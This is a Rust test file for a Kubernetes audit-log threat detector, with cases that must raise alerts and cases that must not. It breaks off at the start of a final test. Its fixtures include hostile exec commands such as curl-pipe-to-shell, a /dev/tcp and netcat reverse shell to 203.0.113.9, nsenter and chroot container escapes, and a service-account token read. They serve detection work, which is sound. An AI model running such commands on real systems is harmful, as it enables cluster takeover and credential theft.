//! Tests of every detection: each with events that must raise it and events that must
//! not (system users, allowed namespaces, failed requests, updates that remove the
//! risky setting), written from the audit API reference.

use serde_json::{json, Value};

use super::*;

/// Alerts raised by these events (JSON lines), in one log.
fn alerts(events: &[Value]) -> Vec<Alert> {
    let text: String = events.iter().map(|e| format!("{e}\n")).collect();
    detect_files(&[("audit.log", text.as_bytes())]).0
}

/// Types of the alerts these events raise.
fn types(events: &[Value]) -> Vec<String> {
    let mut t: Vec<String> = alerts(events).into_iter().map(|a| a.kind).collect();
    t.sort();
    t.dedup();
    t
}

fn fires(id: &str, events: &[Value]) -> Alert {
    let all = alerts(events);
    all.iter()
        .find(|a| a.kind == id)
        .cloned()
        .unwrap_or_else(|| panic!("{id} did not fire: {all:#?}"))
}

fn quiet(id: &str, events: &[Value]) {
    let all = alerts(events);
    assert!(!all.iter().any(|a| a.kind == id), "{id} fired: {all:#?}");
}

static SEQ: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);

/// An event: `verb` by `user` on `resource` (`pods`, `pods/exec`) in `ns` named
/// `name`, answered `code`, with a request body.
fn ev(
    user: &str,
    verb: &str,
    resource: &str,
    ns: &str,
    name: &str,
    code: u16,
    body: Value,
) -> Value {
    let n = SEQ.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
    let (res, sub) = resource.split_once('/').unwrap_or((resource, ""));
    let mut uri = if ns.is_empty() {
        format!("/api/v1/{res}")
    } else {
        format!("/api/v1/namespaces/{ns}/{res}")
    };
    if !name.is_empty() {
        uri.push('/');
        uri.push_str(name);
    }
    if !sub.is_empty() {
        uri.push('/');
        uri.push_str(sub);
    }
    let mut e = json!({
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse",
        "auditID": format!("id-{n}"), "stage": "ResponseComplete",
        "requestURI": uri, "verb": verb,
        "user": {"username": user, "groups": ["system:authenticated"]},
        "sourceIPs": ["10.0.0.5"], "userAgent": "kubectl/v1.30.0",
        "objectRef": {"resource": res, "subresource": sub, "namespace": ns, "name": name},
        "responseStatus": {"code": code},
        "requestReceivedTimestamp": "2026-11-29T10:00:00Z"
    });
    if !body.is_null() {
        e["requestObject"] = body;
    }
    e
}

fn at(mut e: Value, time: &str) -> Value {
    e["requestReceivedTimestamp"] = json!(time);
    e
}

fn pod(spec: Value) -> Value {
    json!({"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "p"}, "spec": spec})
}

fn deployment(spec: Value) -> Value {
    json!({"kind": "Deployment", "apiVersion": "apps/v1", "metadata": {"name": "d"}, "spec": {"template": {"spec": spec}}})
}

fn container(extra: Value) -> Value {
    let mut c = json!({"name": "c", "image": "nginx:1.27"});
    if let (Some(c), Some(extra)) = (c.as_object_mut(), extra.as_object()) {
        for (k, v) in extra {
            c.insert(k.clone(), v.clone());
        }
    }
    c
}

const ALICE: &str = "alice";
const CONTROLLER: &str = "system:serviceaccount:kube-system:daemon-set-controller";

#[test]
fn privileged_container() {
    let spec = json!({"containers": [container(json!({"securityContext": {"privileged": true}}))]});
    let a = fires(
        "K8S_PrivilegedContainer",
        &[ev(
            ALICE,
            "create",
            "pods",
            "dev",
            "p",
            201,
            pod(spec.clone()),
        )],
    );
    assert_eq!(
        a.resource,
        AlertResource {
            kind: "Pod".into(),
            namespace: "dev".into(),
            name: "p".into()
        }
    );
    assert_eq!(a.severity, Severity::High);
    assert_eq!(a.tactic, "Privilege Escalation");
    fires(
        "K8S_PrivilegedContainer",
        &[ev(
            ALICE,
            "create",
            "deployments",
            "dev",
            "d",
            201,
            deployment(spec.clone()),
        )],
    );
    // Refused: the object was never created.
    quiet(
        "K8S_PrivilegedContainer",
        &[ev(
            ALICE,
            "create",
            "pods",
            "dev",
            "p",
            403,
            pod(spec.clone()),
        )],
    );
    // An update that removes the setting.
    let safe =
        json!({"containers": [container(json!({"securityContext": {"privileged": false}}))]});
    quiet(
        "K8S_PrivilegedContainer",
        &[ev(ALICE, "update", "pods", "dev", "p", 200, pod(safe))],
    );
    // The system's own: a system identity, in kube-system, with a shipped image.
    let shipped = json!({"containers": [{"name": "kube-proxy", "image": "registry.k8s.io/kube-proxy:v1.30.0", "securityContext": {"privileged": true}}]});
    quiet(
        "K8S_PrivilegedContainer",
        &[ev(
            CONTROLLER,
            "create",
            "pods",
            "kube-system",
            "kube-proxy-x",
            201,
            pod(shipped.clone()),
        )],
    );
    // A system identity with an unusual image, or in a user namespace, is not exempt.
    fires(
        "K8S_PrivilegedContainer",
        &[ev(
            CONTROLLER,
            "create",
            "pods",
            "kube-system",
            "x",
            201,
            pod(spec),
        )],
    );
    fires(
        "K8S_PrivilegedContainer",
        &[ev(
            CONTROLLER,
            "create",
            "pods",
            "dev",
            "x",
            201,
            pod(shipped),
        )],
    );
}

#[test]
fn sensitive_mount() {
    for path in [
        "/",
        "/etc",
        "/proc",
        "/root/.ssh",
        "/var/run/docker.sock",
        "/run/containerd/containerd.sock",
        "/var/run/crio/crio.sock",
        "/var/lib/kubelet",
        "/var/log",
        "/etc/kubernetes/manifests/",
    ] {
        let spec = json!({"containers": [container(json!({"volumeMounts": [{"name": "h", "mountPath": "/h"}]}))], "volumes": [{"name": "h", "hostPath": {"path": path}}]});
        fires(
            "K8S_SensitiveMount",
            &[ev(ALICE, "create", "pods", "dev", "p", 201, pod(spec))],
        );
    }
    for path in [
        "/data/app",
        "/opt/cache",
        "/var/run/app-data",
        "/etcd-backup",
    ] {
        let spec = json!({"containers": [container(json!({}))], "volumes": [{"name": "h", "hostPath": {"path": path}}]});
        quiet(
            "K8S_SensitiveMount",
            &[ev(ALICE, "create", "pods", "dev", "p", 201, pod(spec))],
        );
    }
    let spec = json!({"containers": [container(json!({}))], "volumes": [{"name": "h", "hostPath": {"path": "/"}}]});
    quiet(
        "K8S_SensitiveMount",
        &[ev(ALICE, "create", "pods", "dev", "p", 422, pod(spec))],
    );
}

#[test]
fn host_namespaces() {
    for field in ["hostNetwork", "hostPID", "hostIPC"] {
        let mut spec = json!({"containers": [container(json!({}))]});
        spec[field] = json!(true);
        let a = fires(
            "K8S_HostNamespaces",
            &[ev(
                ALICE,
                "create",
                "pods",
                "dev",
                "p",
                201,
                pod(spec.clone()),
            )],
        );
        assert_eq!(a.detail, field);
        spec[field] = json!(false);
        quiet(
            "K8S_HostNamespaces",
            &[ev(ALICE, "create", "pods", "dev", "p", 201, pod(spec))],
        );
    }
}

#[test]
fn kube_system_container() {
    let spec = json!({"containers": [container(json!({}))]});
    fires(
        "K8S_KubeSystemContainer",
        &[ev(
            ALICE,
            "create",
            "deployments",
            "kube-system",
            "d",
            201,
            deployment(spec.clone()),
        )],
    );
    fires(
        "K8S_KubeSystemContainer",
        &[ev(
            ALICE,
            "create",
            "pods",
            "kube-public",
            "p",
            201,
            pod(spec.clone()),
        )],
    );
    quiet(
        "K8S_KubeSystemContainer",
        &[ev(
            ALICE,
            "create",
            "pods",
            "dev",
            "p",
            201,
            pod(spec.clone()),
        )],
    );
    quiet(
        "K8S_KubeSystemContainer",
        &[ev(
            ALICE,
            "create",
            "pods",
            "kube-system",
            "p",
            403,
            pod(spec),
        )],
    );
    let shipped = json!({"containers": [{"name": "coredns", "image": "registry.k8s.io/coredns/coredns:v1.11.1"}]});
    quiet(
        "K8S_KubeSystemContainer",
        &[ev(
            "system:serviceaccount:kube-system:replicaset-controller",
            "create",
            "pods",
            "kube-system",
            "coredns-x",
            201,
            pod(shipped),
        )],
    );
}

#[test]
fn malicious_image_and_pen_test_tools() {
    let miner = json!({"containers": [{"name": "c", "image": "docker.io/xmrig/xmrig:6.21"}]});
    fires(
        "K8S_MaliciousContainerImage",
        &[ev(
            ALICE,
            "create",
            "pods",
            "dev",
            "p",
            201,
            pod(miner.clone()),
        )],
    );
    quiet(
        "K8S_MaliciousContainerImage",
        &[ev(ALICE, "create", "pods", "dev", "p", 403, pod(miner))],
    );
    quiet(
        "K8S_MaliciousContainerImage",
        &[ev(
            ALICE,
            "create",
            "pods",
            "dev",
            "p",
            201,
            pod(json!({"containers": [container(json!({}))]})),
        )],
    );
    let hunter = json!({"containers": [{"name": "c", "image": "aquasec/kube-hunter:0.6.8"}]});
    fires(
        "K8S_PenTestTool",
        &[ev(ALICE, "create", "pods", "dev", "p", 201, pod(hunter))],
    );
    // A scanner's user agent counts even when refused.
    let mut scan = ev(
        "system:anonymous",
        "list",
        "secrets",
        "",
        "",
        403,
        Value::Null,
    );
    scan["userAgent"] = json!("peirates/1.1.14");
    let a = fires("K8S_PenTestTool", &[scan]);
    assert_eq!(a.detail, "user agent: peirates");
    quiet(
        "K8S_PenTestTool",
        &[ev(ALICE, "list", "pods", "dev", "", 200, Value::Null)],
    );
}

#[test]
fn cronjob_persistence() {
    let cj = json!({"kind": "CronJob", "apiVersion": "batch/v1", "metadata": {"name": "c"}, "spec": {"schedule": "*/5 * * * *", "jobTemplate": {"spec": {"template": {"spec": {"containers": [container(json!({}))]}}}}}});
    let a = fires(
        "K8S_CronJobPersistence",
        &[ev(ALICE, "create", "cronjobs", "dev", "c", 201, cj.clone())],
    );
    assert_eq!(a.detail, "schedule: */5 * * * *");
    quiet(
        "K8S_CronJobPersistence",
        &[ev(ALICE, "create", "cronjobs", "dev", "c", 409, cj.clone())],
    );
    quiet(
        "K8S_CronJobPersistence",
        &[ev(ALICE, "update", "cronjobs", "dev", "c", 200, cj)],
    );
}

#[test]
fn ephemeral_container() {
    let body = pod(
        json!({"containers": [container(json!({}))], "ephemeralContainers": [{"name": "debugger", "image": "busybox"}]}),
    );
    let a = fires(
        "K8S_EphemeralContainer",
        &[ev(
            ALICE,
            "patch",
            "pods/ephemeralcontainers",
            "prod",
            "api",
            200,
            body.clone(),
        )],
    );
    assert_eq!(a.detail, "images: busybox");
    quiet(
        "K8S_EphemeralContainer",
        &[ev(
            ALICE,
            "patch",
            "pods/ephemeralcontainers",
            "prod",
            "api",
            403,
            body.clone(),
        )],
    );
    quiet(
        "K8S_EphemeralContainer",
        &[ev(
            "system:node:n1",
            "patch",
            "pods/ephemeralcontainers",
            "prod",
            "api",
            200,
            body,
        )],
    );
}

#[test]
fn capabilities_and_host_ports() {
    let caps = json!({"containers": [container(json!({"securityContext": {"capabilities": {"add": ["NET_BIND_SERVICE", "SYS_ADMIN"]}}}))]});
    let a = fires(
        "K8S_DangerousCapabilities",
        &[ev(ALICE, "create", "pods", "dev", "p", 201, pod(caps))],
    );
    assert_eq!(a.detail, "added: SYS_ADMIN");
    let harmless = json!({"containers": [container(json!({"securityContext": {"capabilities": {"add": ["NET_BIND_SERVICE"], "drop": ["ALL"]}}}))]});
    quiet(
        "K8S_DangerousCapabilities",
        &[ev(ALICE, "create", "pods", "dev", "p", 201, pod(harmless))],
    );
    let port = json!({"containers": [container(json!({"ports": [{"containerPort": 80, "hostPort": 8080}]}))]});
    fires(
        "K8S_HostPort",
        &[ev(ALICE, "create", "pods", "dev", "p", 201, pod(port))],
    );
    let plain = json!({"containers": [container(json!({"ports": [{"containerPort": 80}]}))]});
    quiet(
        "K8S_HostPort",
        &[ev(ALICE, "create", "pods", "dev", "p", 201, pod(plain))],
    );
}

fn exec(user: &str, command: &[&str], code: u16) -> Value {
    let mut e = ev(
        user,
        "create",
        "pods/exec",
        "prod",
        "api-1",
        code,
        Value::Null,
    );
    let query: Vec<String> = command
        .iter()
        .map(|c| {
            let enc: String = c
                .bytes()
                .map(|b| {
                    if b.is_ascii_alphanumeric() || b"-_.".contains(&b) {
                        (b as char).to_string()
                    } else {
                        format!("%{b:02X}")
                    }
                })
                .collect();
            format!("command={enc}")
        })
        .collect();
    e["requestURI"] = json!(format!(
        "/api/v1/namespaces/prod/pods/api-1/exec?{}&container=api&stdout=true",
        query.join("&")
    ));
    e["stage"] = json!("ResponseStarted");
    e
}

#[test]
fn exec_and_attach_always_raise_exec_into_container() {
    let a = fires("K8S_ExecIntoContainer", &[exec(ALICE, &["sh"], 101)]);
    assert_eq!(a.detail, "command: sh");
    assert_eq!(a.tactic, "Execution");
    assert_eq!(a.techniques, ["T1609"]);
    // Refused execs raise nothing.
    assert!(types(&[exec(
        ALICE,
        &["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
        403
    )])
    .is_empty());
    // A specific command alert fires with, not instead of, the exec alert.
    let t = types(&[exec(
        ALICE,
        &["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
        101,
    )]);
    assert_eq!(t, ["K8S_ExecIntoContainer", "K8S_ServiceAccountTokenRead"]);
    let mut attach = ev(
        ALICE,
        "create",
        "pods/attach",
        "prod",
        "api-1",
        101,
        Value::Null,
    );
    attach["stage"] = json!("ResponseStarted");
    assert_eq!(fires("K8S_ExecIntoContainer", &[attach]).detail, "attach");
    // Stages fold: RequestReceived + ResponseStarted + ResponseComplete is one exec.
    let started = exec(ALICE, &["id"], 101);
    let mut received = started.clone();
    received["stage"] = json!("RequestReceived");
    received.as_object_mut().map(|o| o.remove("responseStatus"));
    let mut complete = started.clone();
    complete["stage"] = json!("ResponseComplete");
    let a = fires(
        "K8S_ExecIntoContainer",
        &[received.clone(), started, complete],
    );
    assert_eq!(a.count, 1);
    // A request seen only as RequestReceived still counts once, at the end.
    assert_eq!(fires("K8S_ExecIntoContainer", &[received]).count, 1);
}

#[test]
fn suspicious_exec_commands() {
    let cases: &[(&str, &[&str])] = &[
        (
            "K8S_ServiceAccountTokenRead",
            &["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
        ),
        (
            "K8S_DownloadAndExecute",
            &["sh", "-c", "curl -s http://203.0.113.9/x.sh | sh"],
        ),
        (
            "K8S_DownloadAndExecute",
            &[
                "sh",
                "-c",
                "wget -q http://x/m -O /tmp/m && chmod +x /tmp/m && /tmp/m",
            ],
        ),
        (
            "K8S_ContainerEscapeCommand",
            &["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"],
        ),
        ("K8S_ContainerEscapeCommand", &["chroot", "/host", "bash"]),
        (
            "K8S_ReverseShell",
            &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"],
        ),
        (
            "K8S_ReverseShell",
            &["sh", "-c", "nc -e /bin/sh 203.0.113.9 4444"],
        ),
        (
            "K8S_CopyFromContainer",
            &["tar", "cf", "-", "/var/lib/postgresql"],
        ),
        ("K8S_CopyToContainer", &["tar", "xmf", "-", "-C", "/tmp"]),
    ];
    for (id, command) in cases {
        let a = fires(id, &[exec(ALICE, command, 101)]);
        assert!(a.detail.starts_with("command: "), "{a:?}");
        quiet(id, &[exec(ALICE, command, 403)]);
    }
    for benign in [
        &["ls", "-la"][..],
        &["sh", "-c", "curl -s localhost:8080/healthz"],
        &["cat", "/etc/nginx/nginx.conf"],
        &["tar", "--version"],
    ] {
        assert_eq!(
            types(&[exec(ALICE, benign, 101)]),
            ["K8S_ExecIntoContainer"],
            "{benign:?}"
        );
    }
}

#[test]
fn exec_command_in_request_body() {
    let mut e = ev(
        ALICE,
        "create",
        "pods/exec",
        "prod",
        "api-1",
        101,
        json!({"kind": "PodExecOptions", "apiVersion": "v1", "command": ["nsenter", "--target", "1", "--mount"]}),
    );
    e["requestURI"] = json!("/api/v1/namespaces/prod/pods/api-1/exec");
    fires("K8S_ContainerEscapeCommand", &[e]);
}

#[test]
fn port_forward_and_node_proxy() {
    fires(
        "K8S_PortForward",
        &[ev(
            ALICE,
            "create",
            "pods/portforward",
            "db",
            "pg-0",
            101,
            Value::Null,
        )],
    );
    quiet(
        "K8S_PortForward",
        &[ev(
            ALICE,
            "create",
            "pods/portforward",
            "db",
            "pg-0",
            403,
            Value::Null,
        )],
    );
    let mut run = ev(
        "system:serviceaccount:monitoring:agent",
        "create",
        "nodes/proxy",
        "",
        "node-1",
        200,
        Value::Null,
    );
    run["requestURI"] = json!("/api/v1/nodes/node-1/proxy/run/prod/api-1/api");
    assert_eq!(fires("K8S_NodeProxy", &[run]).severity, Severity::High);
    let mut metrics = ev(
        "system:serviceaccount:monitoring:prometheus",
        "get",
        "nodes/proxy",
        "",
        "node-1",
        200,
        Value::Null,
    );
    metrics["requestURI"] = json!("/api/v1/nodes/node-1/proxy/metrics/cadvisor");
    quiet("K8S_NodeProxy", &[metrics]);
    let mut pods = ev(ALICE, "get", "nodes/proxy", "", "node-1", 200, Value::Null);
    pods["requestURI"] = json!("/api/v1/nodes/node-1/proxy/pods");
    fires("K8S_NodeProxy", &[pods.clone()]);
    pods["responseStatus"]["code"] = json!(403);
    quiet("K8S_NodeProxy", &[pods]);
}

fn binding(kind: &str, role: &str, subjects: Value) -> Value {
    json!({"kind": kind, "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "b"}, "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role}, "subjects": subjects})
}

#[test]
fn cluster_admin_binding() {
    let sa = json!([{"kind": "ServiceAccount", "name": "deployer", "namespace": "ci"}]);
    for role in [
        "cluster-admin",
        "admin",
        "system:kube-controller-manager",
        "system:kube-scheduler",
    ] {
        let a = fires(
            "K8S_ClusterAdminBinding",
            &[ev(
                ALICE,
                "create",
                "clusterrolebindings",
                "",
                "b",
                201,
                binding("ClusterRoleBinding", role, sa.clone()),
            )],
        );
        assert_eq!(
            a.detail,
            format!("ClusterRole {role} to ServiceAccount ci/deployer")
        );
    }
    let masters = json!([{"kind": "Group", "name": "system:masters"}]);
    fires(
        "K8S_ClusterAdminBinding",
        &[ev(
            ALICE,
            "create",
            "rolebindings",
            "dev",
            "b",
            201,
            binding("RoleBinding", "view", masters),
        )],
    );
    quiet(
        "K8S_ClusterAdminBinding",
        &[ev(
            ALICE,
            "create",
            "clusterrolebindings",
            "",
            "b",
            403,
            binding("ClusterRoleBinding", "cluster-admin", sa.clone()),
        )],
    );
    quiet(
        "K8S_ClusterAdminBinding",
        &[ev(
            ALICE,
            "create",
            "clusterrolebindings",
            "",
            "b",
            201,
            binding("ClusterRoleBinding", "view", sa.clone()),
        )],
    );
    quiet(
        "K8S_ClusterAdminBinding",
        &[ev(
            "system:apiserver",
            "update",
            "clusterrolebindings",
            "",
            "cluster-admin",
            200,
            binding(
                "ClusterRoleBinding",
                "cluster-admin",
                json!([{"kind": "Group", "name": "system:masters"}]),
            ),
        )],
    );
    let anon = json!([{"kind": "User", "name": "system:anonymous"}]);
    fires(
        "K8S_BindingToAnonymous",
        &[ev(
            ALICE,
            "create",
            "clusterrolebindings",
            "",
            "b",
            201,
            binding("ClusterRoleBinding", "view", anon),
        )],
    );
    quiet(
        "K8S_BindingToAnonymous",
        &[ev(
            ALICE,
            "create",
            "clusterrolebindings",
            "",
            "b",
            201,
            binding("ClusterRoleBinding", "view", sa),
        )],
    );
}

fn role(rules: Value) -> Value {
    json!({"kind": "ClusterRole", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "r"}, "rules": rules})
}

#[test]
fn high_privileges_role() {
    for (rules, reason) in [
        (
            json!([{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]),
            "all verbs on all resources",
        ),
        (
            json!([{"apiGroups": [""], "resources": ["pods/exec"], "verbs": ["create"]}]),
            "pods/exec",
        ),
        (
            json!([{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get", "list"]}, {"apiGroups": [""], "resources": ["configmaps"], "verbs": ["update"]}]),
            "secrets",
        ),
        (
            json!([{"apiGroups": ["rbac.authorization.k8s.io"], "resources": ["clusterroles"], "verbs": ["bind"]}]),
            "bind",
        ),
        (
            json!([{"apiGroups": [""], "resources": ["users"], "verbs": ["impersonate"]}]),
            "impersonate",
        ),
        (
            json!([{"apiGroups": [""], "resources": ["nodes/proxy"], "verbs": ["get"]}]),
            "nodes/proxy",
        ),
        (
            json!([{"apiGroups": ["admissionregistration.k8s.io"], "resources": ["mutatingwebhookconfigurations"], "verbs": ["create"]}]),
            "admission webhooks",
        ),
    ] {
        let a = fires(
            "K8S_HighPrivilegesRole",
            &[ev(
                ALICE,
                "create",
                "clusterroles",
                "",
                "r",
                201,
                role(rules),
            )],
        );
        assert_eq!((a.severity, a.detail.as_str()), (Severity::High, reason));
    }
    let ordinary =
        json!([{"apiGroups": ["apps"], "resources": ["deployments"], "verbs": ["get", "update"]}]);
    let a = fires(
        "K8S_HighPrivilegesRole",
        &[ev(
            ALICE,
            "create",
            "clusterroles",
            "",
            "r",
            201,
            role(ordinary.clone()),
        )],
    );
    assert_eq!(a.severity, Severity::Low);
    quiet(
        "K8S_HighPrivilegesRole",
        &[ev(
            ALICE,
            "create",
            "clusterroles",
            "",
            "r",
            201,
            role(json!([{"apiGroups": [""], "resources": ["pods"], "verbs": ["get", "list"]}])),
        )],
    );
    quiet(
        "K8S_HighPrivilegesRole",
        &[ev(
            ALICE,
            "create",
            "clusterroles",
            "",
            "r",
            403,
            role(ordinary.clone()),
        )],
    );
    quiet(
        "K8S_HighPrivilegesRole",
        &[ev(
            "system:serviceaccount:kube-system:clusterrole-aggregation-controller",
            "update",
            "clusterroles",
            "",
            "admin",
            200,
            role(ordinary),
        )],
    );
}

#[test]
fn system_role_modified() {
    let a = fires(
        "K8S_SystemRoleModified",
        &[ev(
            ALICE,
            "patch",
            "clusterroles",
            "",
            "system:node",
            200,
            Value::Null,
        )],
    );
    assert_eq!(a.severity, Severity::Medium);
    assert_eq!(
        fires(
            "K8S_SystemRoleModified",
            &[ev(
                ALICE,
                "delete",
                "clusterrolebindings",
                "",
                "system:kube-scheduler",
                200,
                Value::Null
            )]
        )
        .severity,
        Severity::High
    );
    quiet(
        "K8S_SystemRoleModified",
        &[ev(
            "system:apiserver",
            "update",
            "clusterroles",
            "",
            "system:node",
            200,
            Value::Null,
        )],
    );
    quiet(
        "K8S_SystemRoleModified",
        &[ev(
            ALICE,
            "patch",
            "clusterroles",
            "",
            "my-role",
            200,
            Value::Null,
        )],
    );
    quiet(
        "K8S_SystemRoleModified",
        &[ev(
            ALICE,
            "delete",
            "clusterroles",
            "",
            "system:node",
            403,
            Value::Null,
        )],
    );
    quiet(
        "K8S_SystemRoleModified",
        &[ev(
            ALICE,
            "get",
            "clusterroles",
            "",
            "system:node",
            200,
            Value::Null,
        )],
    );
}

#[test]
fn impersonation_tokens_and_certificates() {
    let mut imp = ev(ALICE, "list", "secrets", "", "", 200, Value::Null);
    imp["impersonatedUser"] = json!({"username": "system:admin", "groups": ["system:masters"]});
    let a = fires("K8S_Impersonation", &[imp.clone()]);
    assert_eq!(
        (a.severity, a.resource.name.as_str()),
        (Severity::High, "system:admin")
    );
    imp["responseStatus"]["code"] = json!(403);
    quiet("K8S_Impersonation", &[imp]);
    quiet(
        "K8S_Impersonation",
        &[ev(ALICE, "list", "secrets", "", "", 200, Value::Null)],
    );

    let a = fires(
        "K8S_TokenRequest",
        &[ev(
            ALICE,
            "create",
            "serviceaccounts/token",
            "ci",
            "deployer",
            201,
            Value::Null,
        )],
    );
    assert_eq!(a.resource.kind, "ServiceAccount");
    quiet(
        "K8S_TokenRequest",
        &[ev(
            "system:node:node-1",
            "create",
            "serviceaccounts/token",
            "ci",
            "deployer",
            201,
            Value::Null,
        )],
    );
    quiet(
        "K8S_TokenRequest",
        &[ev(
            ALICE,
            "create",
            "serviceaccounts/token",
            "ci",
            "deployer",
            403,
            Value::Null,
        )],
    );

    let csr = |signer: &str| json!({"kind": "CertificateSigningRequest", "apiVersion": "certificates.k8s.io/v1", "metadata": {"name": "x"}, "spec": {"request": "LS0t", "signerName": signer, "usages": ["client auth"]}});
    fires(
        "K8S_CertificateSigningRequest",
        &[ev(
            ALICE,
            "create",
            "certificatesigningrequests",
            "",
            "x",
            201,
            csr("kubernetes.io/kube-apiserver-client"),
        )],
    );
    quiet(
        "K8S_CertificateSigningRequest",
        &[ev(
            ALICE,
            "create",
            "certificatesigningrequests",
            "",
            "x",
            201,
            csr("kubernetes.io/kubelet-serving"),
        )],
    );
    quiet(
        "K8S_CertificateSigningRequest",
        &[ev(
            "system:node:n1",
            "create",
            "certificatesigningrequests",
            "",
            "x",
            201,
            csr("kubernetes.io/kube-apiserver-client-kubelet"),
        )],
    );
    let approve = json!({"kind": "CertificateSigningRequest", "apiVersion": "certificates.k8s.io/v1", "metadata": {"name": "x"}, "spec": {"signerName": "kubernetes.io/kube-apiserver-client"}, "status": {"conditions": [{"type": "Approved", "status": "True"}]}});
    assert_eq!(
        fires(
            "K8S_CertificateSigningRequest",
            &[ev(
                ALICE,
                "update",
                "certificatesigningrequests/approval",
                "",
                "x",
                200,
                approve.clone()
            )]
        )
        .severity,
        Severity::High
    );
    quiet(
        "K8S_CertificateSigningRequest",
        &[ev(
            "system:serviceaccount:kube-system:certificate-controller",
            "update",
            "certificatesigningrequests/approval",
            "",
            "x",
            200,
            approve,
        )],
    );
}

#[test]
fn service_accounts_and_long_lived_tokens() {
    fires(
        "K8S_KubeSystemServiceAccount",
        &[ev(
            ALICE,
            "create",
            "serviceaccounts",
            "kube-system",
            "helper",
            201,
            Value::Null,
        )],
    );
    quiet(
        "K8S_KubeSystemServiceAccount",
        &[ev(
            ALICE,
            "create",
            "serviceaccounts",
            "dev",
            "helper",
            201,
            Value::Null,
        )],
    );
    quiet(
        "K8S_KubeSystemServiceAccount",
        &[ev(
            "system:serviceaccount:kube-system:tokens-controller",
            "create",
            "serviceaccounts",
            "kube-system",
            "x",
            201,
            Value::Null,
        )],
    );
    let token = json!({"kind": "Secret", "apiVersion": "v1", "type": "kubernetes.io/service-account-token", "metadata": {"name": "t"}, "data": {"token": "c2VjcmV0"}});
    fires(
        "K8S_LongLivedToken",
        &[ev(ALICE, "create", "secrets", "ci", "t", 201, token)],
    );
    let opaque =
        json!({"kind": "Secret", "apiVersion": "v1", "type": "Opaque", "metadata": {"name": "t"}});
    quiet(
        "K8S_LongLivedToken",
        &[ev(ALICE, "create", "secrets", "ci", "t", 201, opaque)],
    );
    let mut review = ev(
        "system:serviceaccount:ci:deployer",
        "create",
        "selfsubjectrulesreviews",
        "",
        "",
        201,
        Value::Null,
    );
    review["objectRef"]["apiGroup"] = json!("authorization.k8s.io");
    fires("K8S_PermissionEnumeration", &[review]);
    quiet(
        "K8S_PermissionEnumeration",
        &[ev(
            ALICE,
            "create",
            "selfsubjectrulesreviews",
            "",
            "",
            201,
            Value::Null,
        )],
    );
}

#[test]
fn anonymous_access() {
    let mut allowed = ev("system:anonymous", "list", "pods", "", "", 200, Value::Null);
    allowed["sourceIPs"] = json!(["198.51.100.7"]);
    assert_eq!(
        fires("K8S_AnonymousAccess", &[allowed.clone()]).severity,
        Severity::High
    );
    let mut denied = allowed.clone();
    denied["responseStatus"]["code"] = json!(403);
    assert_eq!(
        fires("K8S_AnonymousAccess", &[denied]).severity,
        Severity::Low
    );
    // Health probes from private addresses or health-check ranges are not alerts...
    for ip in ["10.0.0.9", "35.191.0.1", "130.211.1.1", "168.63.129.16"] {
        let mut probe = allowed.clone();
        probe["requestURI"] = json!("/readyz?verbose");
        probe["sourceIPs"] = json!([ip]);
        quiet("K8S_AnonymousAccess", &[probe]);
    }
    // ...but from the internet they are.
    let mut probe = allowed.clone();
    probe["requestURI"] = json!("/version");
    fires("K8S_AnonymousAccess", &[probe]);
    let mut grouped = ev("someone", "get", "namespaces", "", "", 200, Value::Null);
    grouped["user"]["groups"] = json!(["system:unauthenticated"]);
    grouped["sourceIPs"] = json!(["198.51.100.7"]);
    fires("K8S_AnonymousAccess", &[grouped]);
    quiet(
        "K8S_AnonymousAccess",
        &[ev(ALICE, "list", "pods", "", "", 200, Value::Null)],
    );
}

#[test]
fn forbidden_burst() {
    let burst: Vec<Value> = (0..20)
        .map(|i| {
            at(
                ev(
                    "system:serviceaccount:web:frontend",
                    "get",
                    "secrets",
                    "kube-system",
                    &format!("s{i}"),
                    403,
                    Value::Null,
                ),
                &format!("2026-11-29T10:{:02}:00Z", i % 60),
            )
        })
        .collect();
    let a = fires("K8S_ForbiddenBurst", &burst);
    assert_eq!(a.count, 20);
    assert_eq!(a.evidence.len(), MAX_EVIDENCE);
    assert_eq!(a.time.as_deref(), Some("2026-11-29T10:00:00Z"));
    quiet("K8S_ForbiddenBurst", &burst[..19]);
    // Spread over hours, the same number is not a burst.
    let slow: Vec<Value> = (0..20)
        .map(|i| {
            at(
                ev(
                    "system:serviceaccount:web:frontend",
                    "get",
                    "secrets",
                    "kube-system",
                    "s",
                    403,
                    Value::Null,
                ),
                &format!("2026-11-29T{:02}:00:00Z", i),
            )
        })
        .collect();
    quiet("K8S_ForbiddenBurst", &slow);
}

#[test]
fn secret_enumeration() {
    let a = fires(
        "K8S_SecretEnumeration",
        &[ev(
            "system:serviceaccount:ci:deployer",
            "list",
            "secrets",
            "",
            "",
            200,
            Value::Null,
        )],
    );
    assert_eq!(a.detail, "list of secrets in all namespaces");
    quiet(
        "K8S_SecretEnumeration",
        &[ev(
            "system:serviceaccount:ci:deployer",
            "list",
            "secrets",
            "ci",
            "",
            200,
            Value::Null,
        )],
    );
    quiet(
        "K8S_SecretEnumeration",
        &[ev(
            "system:serviceaccount:ci:deployer",
            "list",
            "secrets",
            "",
            "",
            403,
            Value::Null,
        )],
    );
    let reads: Vec<Value> = (0..10)
        .map(|i| {
            at(
                ev(
                    "mallory",
                    "get",
                    "secrets",
                    "prod",
                    &format!("s{i}"),
                    200,
                    Value::Null,
                ),
                &format!("2026-11-29T10:00:{:02}Z", i),
            )
        })
        .collect();
    let a = fires("K8S_SecretEnumeration", &reads);
    assert_eq!(a.count, 10);
    // The same secret read again and again is not an enumeration.
    let same: Vec<Value> = (0..30)
        .map(|_| ev("mallory", "get", "secrets", "prod", "s", 200, Value::Null))
        .collect();
    quiet("K8S_SecretEnumeration", &same);
    quiet("K8S_SecretEnumeration", &reads[..9]);
}

#[test]
fn new_service_account_behaviour() {
